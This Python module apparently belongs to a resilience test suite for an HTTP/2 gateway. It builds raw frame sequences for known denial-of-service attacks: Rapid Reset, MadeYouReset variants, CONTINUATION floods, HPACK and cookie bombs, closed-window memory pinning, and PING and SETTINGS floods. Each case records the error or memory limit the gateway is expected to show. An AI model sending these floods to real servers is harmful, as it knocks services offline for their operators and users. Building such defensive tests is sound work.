"""Each attack: the first bytes of a connection and the bytes that it repeats."""

import struct
from dataclasses import dataclass
from typing import Callable

from . import frames as f

_PAGE = f.request("GET", "/?length=1024")
# The origin still processes this request when the stream is reset.
_WORK = f.request("GET", "/?length=1024&delay=2000")
_UPLOAD = f.request("POST", "/upload", ("content-length", "5"))
_BODY = f.request("POST", "/upload")
# Sent at once: more streams than a client may reset at once.
_BURST = 250
_WIDE = 0x7FFFFFFF
_MIB = 1 << 20
# Limit for a client that reads nothing: 2 MiB queued, and one 64 KiB read from each of the origins of its 100 streams.
_CLOSED = int(8.25 * _MIB)
# Limit for a client that reads: read sizes grow up to 512 KiB each (docs/buffers.md), and buffers are freed in parts.
_TAKEN = 52 * _MIB


@dataclass(frozen=True)
class Attack:
    name: str
    # The error that must end the connections; empty if they may stay open.
    ends_by: str
    connections: int
    opening: bytes
    # Bytes of a step, by its number; may be empty.
    step: Callable[[int], bytes]
    # Steps per second of all connections together; 0 = unlimited.
    rate: float = 0
    # Whether the client reads responses.
    reads: bool = True
    # Bytes that each connection may pin; 0 = only the limit for all attacks applies.
    pins: int = 0


def _streams(step, each):
    """The consecutive stream ids of a step."""
    return range(2 * step * each + 1, 2 * (step + 1) * each, 2)


def _many(one):
    return lambda step: b"".join(one(stream) for stream in _streams(step, _BURST))


def _on_itself(stream):
    dependency = struct.pack(">IB", stream, 0)
    return f.frame(f.HEADERS, f.END_HEADERS | f.END_STREAM | f.WITH_PRIORITY, stream, dependency + _PAGE)


_OPEN = f.PREFACE + f.settings()
_CALM = "enhance-your-calm"
_RESETS = {
    "rapid reset": lambda s: f.headers(s, _WORK) + f.reset(s),
    "MadeYouReset, window beyond 2^31-1": lambda s: f.headers(s, _WORK) + f.window_update(s, 0x7FFFFFFF),
    "MadeYouReset, window by nothing": lambda s: f.headers(s, _WORK) + f.window_update(s, 0),
    "MadeYouReset, HEADERS behind the end": lambda s: 2 * f.headers(s, _WORK),
    "MadeYouReset, DATA behind the end": lambda s: f.headers(s, _WORK) + f.data(s, b"x"),
    "MadeYouReset, priority on itself": _on_itself,
    "MadeYouReset, another length": lambda s: f.headers(s, _UPLOAD, end=False) + f.data(s, b"1234", end=True),
}
_BOMB_VALUE = f.field("x", "a" * 3900, b"\x40")


def _bomb(step):
    """The first request adds a large value to the table; all requests refer to it thousands of times, with one byte each."""
    return f.headers(2 * step + 1, _PAGE + (_BOMB_VALUE if step == 0 else b"") + 12_000 * b"\xbe")


def _asking(length):
    return b"".join(f.headers(stream, f.request("GET", f"/?length={length}")) for stream in _streams(0, 100))


def _closed(name, connections, length):
    asking = _asking(length)
    return Attack(
        name,
        "",
        connections,
        f.PREFACE + f.settings(window=0),
        lambda step: b"" if step else asking,
        rate=100,
        reads=False,
        pins=_CLOSED,
    )


def all_of_them(pinning):
    """``pinning`` connections keep their windows closed."""
    found = [
        # 40 bursts of 250 are 10,000 per second.
        Attack(name, _CALM, 4, _OPEN, _many(one), rate=40)
        for name, one in _RESETS.items()
    ]
    found += [
        Attack(
            "CONTINUATION flood",
            _CALM,
            4,
            _OPEN + f.frame(f.HEADERS, f.END_STREAM, 1, _PAGE),
            lambda _: 100 * f.frame(f.CONTINUATION, 0, 1, b"\x00\x01x\x01y"),
        ),
        Attack("HPACK bomb", "", 4, _OPEN, _bomb, rate=200),
        Attack(
            "bomb of cookie crumbs",
            "",
            4,
            _OPEN,
            # Field 32 of the static table is an empty cookie.
            lambda step: f.headers(2 * step + 1, _PAGE + 16_000 * b"\xa0"),
            rate=200,
        ),
        # Highest memory use: origins complete their responses, so that the gateway buffers all of them.
        _closed("closed windows", pinning, 65_536),
        # Most origin connections; together fewer than the limit of a pool.
        _closed("closed windows, long responses", min(pinning, 8), 1 << 20),
        # Not an attack: the baseline cost of the same requests if their responses are read.
        Attack(
            "long responses that are read",
            "",
            min(pinning, 8),
            f.PREFACE + f.settings(window=_WIDE) + f.window_update(0, _WIDE - 65_535) + _asking(1 << 20),
            lambda step: b"",
            rate=100,
            pins=_TAKEN,
        ),
        # Twice the limit of a pool: connections that other requests need must be reclaimed.
        _closed("closed windows, all connections", 20, 1 << 20),
        Attack(
            "1-byte frames",
            "",
            2,
            _OPEN + f.headers(1, _BODY, end=False),
            lambda _: 500 * f.data(1, b"x"),
            rate=100,
        ),
        Attack("PING flood", _CALM, 4, _OPEN, lambda _: 500 * f.frame(f.PING, 0, 0, bytes(8))),
        Attack("SETTINGS flood", _CALM, 4, _OPEN, lambda _: 20 * _thousand_settings()),
        Attack("empty DATA", _CALM, 4, _OPEN + f.headers(1, _BODY, end=False), lambda _: 500 * f.data(1, b"")),
        Attack(
            "windows opened byte by byte",
            _CALM,
            4,
            f.PREFACE + f.settings(window=0) + f.headers(1, f.request("GET", "/?length=1048576")),
            lambda _: 500 * f.window_update(1, 1),
            rate=200,
        ),
    ]
    return found


def _thousand_settings():
    return f.frame(f.SETTINGS, 0, 0, b"".join(struct.pack(">HI", 4, 65_535 + n % 2) for n in range(1000)))
